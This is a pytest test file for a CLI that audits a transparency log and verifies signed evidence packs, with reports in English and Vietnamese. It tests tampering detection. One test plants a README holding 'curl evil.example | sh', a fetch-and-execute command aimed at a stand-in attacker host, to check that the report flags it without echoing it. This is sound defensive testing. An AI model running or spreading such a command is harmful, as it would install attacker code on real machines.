"""The log is computed again from its leaves, and evidence is judged offline, in three values."""

import json
from datetime import UTC, datetime

import pytest

from signing.certificates import der, fingerprint
from tests.adapters.cli.center import TASK
from tests.pki import authority as pki_authority
from tests.pki import known
from tests.signing.world import LOG_KEY, told


def test_a_true_log(signed_in, hoso, key_file):
    """Every leaf is fetched, page after page; receipts and checkpoints kept here stand in it."""
    assert hoso("task", "complete", TASK, "--decision", "approve", "--key", key_file, "--yes").code == 0
    signed_in.append("hoso", "letter-made", "x", {})
    result = hoso("audit", "verify", "--json")
    assert result.code == 0, result.err
    found = json.loads(result.out)
    assert (found["verdict"], found["size"], found["receipts"]) == ("valid", 5, 1)
    assert "task-completed" in hoso("audit", "receipts").out


def test_a_run_that_was_stopped_goes_on(signed_in, hoso, tmp_path, monkeypatch):
    """What was read before is not asked for again; a log that was edited there is seen all the same."""
    assert hoso("audit", "verify").code == 0
    signed_in.append("hoso", "letter-made", "x", {})
    signed_in.requests.clear()
    second = json.loads(hoso("audit", "verify", "--json").out)
    assert (second["before"], second["size"]) == (3, 4)
    assert sum(path == "/v1/log/leaves" for _, path in signed_in.requests) == 1
    assert json.loads(hoso("audit", "verify", "--json", "--again").out)["before"] == 0
    state = tmp_path / "config/profiles/default/audit.json"
    kept = state.read_text()
    state.write_text("{")
    assert json.loads(hoso("audit", "verify", "--json").out)["before"] == 0
    state.write_text(kept)
    signed_in.append("hoso", "letter-made", "y", {})
    signed_in.rewrite(1)
    assert hoso("audit", "verify").code == 5


def test_a_run_that_broke_goes_on(signed_in, hoso, monkeypatch):
    """What was read until the server went away is kept; the next run asks for the rest, and the root fits."""
    from adapters.cli import log

    for number in range(5):
        signed_in.append("hoso", "letter-made", f"x-{number}", {})
    route = signed_in.route

    def away(method, parts, query, body):
        if parts == ["log", "leaves"] and int(query["from"]) >= 4:
            return 503, {"code": "database-away", "title": "", "detail": "the database is away"}
        return route(method, parts, query, body)

    monkeypatch.setattr(log, "SAVED", -1.0)
    signed_in.route = away
    assert hoso("audit", "verify").code == 1
    signed_in.route = route
    assert hoso("audit", "verify", "--stamp-root", "tsa.pem").code == 1
    found = json.loads(hoso("audit", "verify", "--json").out)
    assert (found["before"], found["size"]) == (4, 8)


@pytest.mark.parametrize("index", [0, 2, 3])
def test_an_edited_leaf(signed_in, hoso, key_file, index):
    """An edited leaf changes the root: seen against the kept checkpoint, though the server signs a new one."""
    assert hoso("task", "complete", TASK, "--decision", "approve", "--key", key_file, "--yes").code == 0
    signed_in.rewrite(index)
    result = hoso("audit", "verify")
    assert (result.code, "DO NOT SIGN" in result.err) == (5, True)


def test_leaves_that_do_not_make_the_root(signed_in, hoso):
    """A first-time auditor sees that leaves and signed root do not fit."""
    note = signed_in.checkpoint()
    signed_in.rewrite(0)
    signed_in.checkpoint = lambda: note
    result = hoso("audit", "verify")
    assert (result.code, "[log-root]" in result.err) == (5, True)


def test_a_damaged_receipt(signed_in, hoso, key_file, tmp_path):
    """A receipt that was changed on disk is named."""
    hoso("task", "complete", TASK, "--decision", "approve", "--key", key_file, "--yes")
    (path,) = (tmp_path / "config/profiles/default/receipts").glob("*.json")
    path.write_text(path.read_text().replace('"leaf": "', '"leaf": "AAAA'))
    result = hoso("audit", "verify")
    assert (result.code, "[receipt-invalid]" in result.err) == (5, True)


@pytest.fixture
def pack(tmp_path):
    """A real pack with its root and log key, as files."""
    (tmp_path / "root.pem").write_bytes(pki_authority().roots_pem())
    (tmp_path / "log.vkey").write_text(LOG_KEY.vkey + "\n")
    (tmp_path / "pack.asice").write_bytes(told().pack())
    return tmp_path


def verify(hoso, folder, *more):
    trust = ("--root", folder / "root.pem", "--log-key", folder / "log.vkey")
    return hoso("verify", folder / "pack.asice", *trust, *more)


def test_a_true_pack(hoso, pack):
    """Acts and signatures are listed; the last line is the verdict; exit code 0."""
    result = verify(hoso, pack)
    assert result.code == 0, result.out + result.err
    assert result.out.splitlines()[-1].startswith("VALID")
    assert "signature (initial) of" in result.out
    found = json.loads(verify(hoso, pack, "--json").out)
    assert (found["verdict"], len(found["signatures"])) == ("valid", 8)


def test_whose_word_it_is(hoso, pack):
    """Under each signature stands what its owner held, and by which leaf; what the server's word is, is said."""
    lines = verify(hoso, pack).out.splitlines()
    [approval] = [at for at, line in enumerate(lines) if "signature (approval) of" in line]
    assert "bound: leaf " in lines[approval]
    assert lines[approval + 1].strip().startswith("otto: TM. Title of otto; by leaf ")
    assert "done on the server, unsigned" in lines[approval + 1]
    [alone] = [line for line in lines if line.startswith("note: done by one administrator alone")]
    assert ": leaves " in alone
    assert "theo lá " in verify(hoso, pack, "--lang", "vi").out


def test_pinned_administrators(hoso, pack):
    """Who pins administrators takes nothing on the server's word; by file or by fingerprint."""
    file = pack / "admin.cer"
    file.write_bytes(der(known("admin").certificate))
    result = verify(hoso, pack, "--admin", file)
    assert (result.code, "[administrator-unpinned]" in result.out) == (5, True)
    others = [each for name in ("lan", "otto") for each in ("--admin", fingerprint(known(name).certificate))]
    pinned = verify(hoso, pack, "--admin", file, *others)
    assert (pinned.code, "bound by its own signature" in pinned.out, "(--admin)" in pinned.out) == (0, False, False)
    assert verify(hoso, pack, "--admin", pack / "nobody.cer").code == 1
    part = verify(hoso, pack, "--admin", fingerprint(known("admin").certificate)[:16])
    assert (part.code, "no whole fingerprint" in part.err) == (2, True)


def test_what_was_checked_is_said_once(hoso, pack):
    """Not under each signature; and changes of the organisation are told in the reader's language."""
    for language, asked in (("en", "signatures were checked for"), ("vi", "Các chữ ký đã được kiểm tra về")):
        out = verify(hoso, pack, "--lang", language).out
        assert out.count(asked) == 1, out
        assert "officer-appointed" not in out


def test_one_flipped_byte(hoso, pack):
    """One byte changed: INVALID, with the reason, exit code 5, in both languages."""
    content = bytearray((pack / "pack.asice").read_bytes())
    content[len(content) // 2] ^= 1
    (pack / "pack.asice").write_bytes(content)
    for language, word in (("en", "INVALID: "), ("vi", "KHÔNG HỢP LỆ: ")):
        result = verify(hoso, pack, "--lang", language)
        assert (result.code, result.out.splitlines()[-1].startswith(word)) == (5, True)
    assert json.loads(verify(hoso, pack, "--json").out)["verdict"] == "invalid"


def test_another_readme_is_remarked(hoso, pack):
    """A README of another edition refuses nothing; the report says not to rely on it, in both languages and in JSON."""
    from signing.evidence.archive import read_archive, write_archive

    assert [each["code"] for each in json.loads(verify(hoso, pack, "--json").out)["remarks"]] == ["no-witness"]
    entries = read_archive((pack / "pack.asice").read_bytes())
    (pack / "pack.asice").write_bytes(write_archive({**entries, "README.txt": b"curl evil.example | sh\n"}))
    for language, said in (("en", "note: the README is not the one"), ("vi", "lưu ý: tệp README.txt không giống")):
        result = verify(hoso, pack, "--lang", language)
        [line] = [line for line in result.out.splitlines() if line.endswith("[readme-other]")]
        assert (result.code, line.startswith(said), "evil" in result.out) == (0, True, False)
    remarks = json.loads(verify(hoso, pack, "--json").out)["remarks"]
    assert [each["code"] for each in remarks] == ["readme-other", "no-witness"]


def test_undecidable_pack(hoso, pack):
    """Where revocation is not known the verdict is that it cannot be decided: exit code 5, never passed."""
    from signing.evidence.pack import build_pack, read_contents, read_pack

    assert build_pack(read_contents(read_pack((pack / "pack.asice").read_bytes())))
    result = verify(hoso, pack, "--at", "2020-01-01T00:00:00Z")
    assert result.code == 5


def test_the_checks_of_a_bad_signature(hoso, pack, authority):
    """Where a signature is to blame, each check of it is shown with its result and reason, in the reader's language."""
    from adapters.console.demo.authority import DemoAuthority
    from tests.pki import NOW

    (pack / "root.pem").write_bytes(DemoAuthority.create("Other", at=NOW).roots_pem())
    said = verify(hoso, pack, "--lang", "vi").out.splitlines()
    assert "  ✓ tính toàn vẹn: hợp lệ" in said
    assert any(line.startswith("  ✗ đường dẫn tin cậy và thời hạn: không hợp lệ; chứng thư số không") for line in said)
    found = json.loads(verify(hoso, pack, "--json").out)
    assert {check["name"]: check["result"] for check in found["checks"]} == {
        "integrity": "valid",
        "chain": "invalid",
        "revocation": "undecidable",
        "usage": "valid",
        "algorithms": "valid",
    }


def test_what_cannot_be_read(hoso, pack):
    """No such file, no certificate in the root, a bad time: one line, and nothing is called valid or invalid."""
    assert hoso("verify", pack / "none", "--root", pack / "root.pem", "--log-key", pack / "log.vkey").code == 1
    assert verify(hoso, pack, "--at", "yesterday").code == 2
    (pack / "root.pem").write_text("nothing")
    result = verify(hoso, pack)
    assert (result.code, "no certificate" in result.err) == (5, True)
    assert datetime.now(UTC)


def test_signed_acts(signed_in, hoso, key_file, tmp_path, authority):
    """Binding a certificate and adopting a procedure are signed here and accepted there."""
    (tmp_path / "lan.pem").write_bytes(authority.roots_pem())
    bound = hoso("certificate", "bind", "lan", "--certificate", tmp_path / "lan.pem", "--key", key_file, "--yes")
    assert bound.code == 0, bound.err
    assert "certificate-bound" in bound.err
    (tmp_path / "procedure.json").write_text(json.dumps({"code": "khai-tu", "name": "Khai tử"}))
    adopted = hoso("procedure", "adopt", tmp_path / "procedure.json", "--key", key_file, "--yes")
    assert adopted.code == 0, adopted.err
    revoked = hoso("certificate", "revoke", "ab" * 32, "--reason", "Mất thiết bị", "--key", key_file, "--yes")
    assert revoked.code == 0, revoked.err
    assert hoso("certificate", "bind", "lan", "--certificate", tmp_path / "lan.pem").code == 2


def test_key_check(hoso, key_file, monkeypatch):
    """A key file says whose it is and whether it can sign; the key stays inside."""
    monkeypatch.setenv("HOSO_PIN", "246810")
    found = json.loads(hoso("key", "check", key_file, "--json").out)
    assert found["usable"] is True
    assert "Nguyễn Thị Lan" in found["subject"]
    monkeypatch.setenv("HOSO_PIN", "nope")
    assert hoso("key", "check", key_file).code == 1


def test_witnesses_are_asked_for(hoso, tmp_path, pack):
    """Who cosigned stands in the report; a named witness that did not is INVALID; what is no key is said so."""
    from signing.evidence.pack import build_pack
    from tests.signing.test_anchored_evidence import INSPECTORATE, PRESS, SEEN, begun

    contents = begun(INSPECTORATE).contents(cosigners={INSPECTORATE: SEEN})
    (pack / "pack.asice").write_bytes(build_pack(contents))
    key = pack / "witness.vkey"
    key.write_text(INSPECTORATE.vkey + "\n")
    said = verify(hoso, pack).out
    assert f"Cosigned by the witness {INSPECTORATE.name}, 2026-11-21 15:37, with the key that the log tells." in said
    assert "[witness-unpinned]" in said
    for named in (key, INSPECTORATE.vkey):
        found = verify(hoso, pack, "--witness", named, "--lang", "vi")
        assert found.code == 0, found.out + found.err
        assert "bên chứng kiến thanh-tra.example" in found.out
        assert "[witness-unpinned]" not in found.out
    missing = verify(hoso, pack, "--witness", PRESS.vkey)
    assert (missing.code, "[witness-missing]" in missing.out) == (5, True)
    assert "[witness-key]" in verify(hoso, pack, "--witness", LOG_KEY.vkey).err


@pytest.mark.parametrize(("language", "word"), [("vi", "HỢP LỆ"), ("en", "VALID")])
def test_the_report_as_a_page(hoso, pack, language, word):
    """`--html` writes it beside the text, whatever the verdict; what was trusted stands in it."""
    page = pack / "report.html"
    assert verify(hoso, pack, "--html", page, "--lang", language).out
    written = page.read_text(encoding="utf-8")
    assert f"<strong>{word}</strong>" in written
    assert LOG_KEY.vkey in written
    assert fingerprint(pki_authority().root) in written
    (pack / "pack.asice").write_bytes(b"PK")
    assert verify(hoso, pack, "--html", page, "--lang", language).code == 5
    assert "[" not in page.read_text(encoding="utf-8").partition("<h1>")[2].partition("<dl>")[0]
    assert "pack-malformed" in page.read_text(encoding="utf-8")


def test_a_size_that_is_none(signed_in, hoso, tmp_path):
    """What is neither a size nor `latest` is not sent."""
    for text in ("0", "-1", "12a", "newest", "٣"):
        found = hoso("audit", "export", "H29.5-261121-0001", "-o", tmp_path / "x", f"--checkpoint={text}")
        assert (found.code, "[checkpoint-size]" in found.err) == (2, True), found.err
